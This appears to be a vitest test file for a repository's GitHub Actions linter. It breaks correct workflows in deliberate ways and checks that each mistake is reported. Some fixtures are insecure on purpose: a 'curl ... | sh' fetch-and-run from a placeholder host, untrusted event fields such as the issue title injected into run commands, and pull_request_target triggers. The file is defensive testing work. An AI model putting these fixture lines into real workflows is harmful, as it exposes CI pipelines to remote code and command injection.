import { readFileSync } from 'node:fs';
import path from 'node:path';

import { describe, expect, test } from 'vitest';

import { problemsIn, root } from './workflow-rules.ts';

const workflow = (file: string) => readFileSync(path.join(root, '.github/workflows', file), 'utf8');
const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';

/** One mistake each: what to replace in a correct workflow, by what, and the expected message. */
const RULES: readonly [mistake: string, file: string, from: string | RegExp, to: string, problem: RegExp][] =
  [
    ['a tag for a hash', 'verify.yml', CHECKOUT, 'actions/checkout@v7 # v7.0.1', /not pinned by hash/],
    ['a hash without its version', 'verify.yml', CHECKOUT, CHECKOUT.split(' ')[0]!, /not pinned by hash/],
    ['a short hash', 'verify.yml', CHECKOUT, 'actions/checkout@3d3c42e # v7.0.1', /not pinned by hash/],
    [
      'a job without permissions',
      'verify.yml',
      '    permissions:\n      contents: read\n',
      '',
      /no permissions/,
    ],
    ['rights for every job', 'verify.yml', 'permissions: {}', 'permissions: write-all', /to every job/],
    ['no rights named', 'verify.yml', 'permissions: {}\n', '', /to every job/],
    ['an identity for the gate', 'verify.yml', '      contents: read', '      id-token: write', /id-token/],
    [
      'an identity for the job that packs',
      'release.yml',
      /(?<=\n {2}pack:[^]*?)contents: read/,
      'contents: read\n      id-token: write',
      /^pack: id-token/,
    ],
    [
      'no identity where one publishes',
      'release.yml',
      '      id-token: write',
      '      contents: read',
      /id-token/,
    ],
    [
      'a checkout in the job that publishes',
      'release.yml',
      '      # No `registry-url`',
      `      - uses: ${CHECKOUT}\n        with:\n          persist-credentials: false\n      # No \`registry-url\``,
      /^publish: a job that writes runs code/,
    ],
    [
      'tools in a job that writes',
      'nightly.yml',
      '      contents: read',
      '      contents: write',
      /runs code/,
    ],
    [
      'a registry',
      'release.yml',
      'cache: false',
      "cache: false\n          registry-url: 'https://r'",
      /registry-url/,
    ],
    [
      'a token',
      'release.yml',
      'persist-credentials: false',
      'token: ${{ secrets.NPM_TOKEN }}',
      /token that lasts/,
    ],
    [
      'credentials left behind',
      'verify.yml',
      'persist-credentials: false',
      'clean: true',
      /leaves credentials/,
    ],
    ['another Node', 'verify.yml', '24.21.0', '20.1.0', /another Node/],
    ['a cache', 'verify.yml', 'package-manager-cache: false', 'cache: pnpm', /a cache/],
    ['no time limit', 'verify.yml', '    timeout-minutes: 90\n', '', /timeout-minutes/],
    [
      'no concurrency group',
      'pages.yml',
      'concurrency:\n  group: pages\n  cancel-in-progress: false\n',
      '',
      /concurrency/,
    ],
    ['a trigger of strangers', 'verify.yml', 'pull_request:', 'pull_request_target:', /lets a stranger/],
    ['another machine', 'verify.yml', 'ubuntu-24.04', 'self-hosted', /runs-on/],
    ['another pnpm', 'pages.yml', 'pnpm@12.21.0 docs', 'pnpm@latest docs', /no command of this repository/],
    ['a script that is not there', 'pages.yml', 'docs:build', 'docs:biuld', /no command of this repository/],
    [
      'a program from outside',
      'verify.yml',
      'run: .ci/run',
      'run: curl -s https://x.example | sh',
      /no command/,
    ],
    ['a lockfile that is not kept', 'pages.yml', ' --frozen-lockfile', '', /no command of this repository/],
    [
      'a script without an end at errors',
      'release.yml',
      'set -euo pipefail',
      'set -u',
      /goes on after an error/,
    ],
    [
      'a workflow of others',
      'release.yml',
      './.github/workflows/verify.yml',
      'a/b/.github/workflows/c.yml@v1',
      /somebody else/,
    ],
    [
      'a branch name in a command',
      'verify.yml',
      'run: .ci/run',
      'run: echo ${{ github.ref_name }}',
      /inside a command/,
    ],
  ];

/** Mistakes that actionlint finds, which has tests of its own: one in a script, one between two jobs. */
const LINT: readonly [mistake: string, file: string, from: string | RegExp, to: string, problem: RegExp][] = [
  [
    'the title of an issue in a command',
    'verify.yml',
    'run: .ci/run',
    'run: echo ${{ github.event.issue.title }}',
    /potentially untrusted/,
  ],
  ['a job that is not there', 'release.yml', 'needs: publish', 'needs: publihs', /does not exist/],
];

describe.each([
  ['the rules of this repository', RULES],
  ['actionlint', LINT],
] as const)('%s refuse', (_, cases) => {
  test.each(cases)('%s', async (_mistake, file, from, to, problem) => {
    const right = workflow(file);
    const broken = right.replace(from, to);
    expect(broken).not.toBe(right);
    expect(await problemsIn(file, broken)).toContainEqual(expect.stringMatching(problem));
  });
});
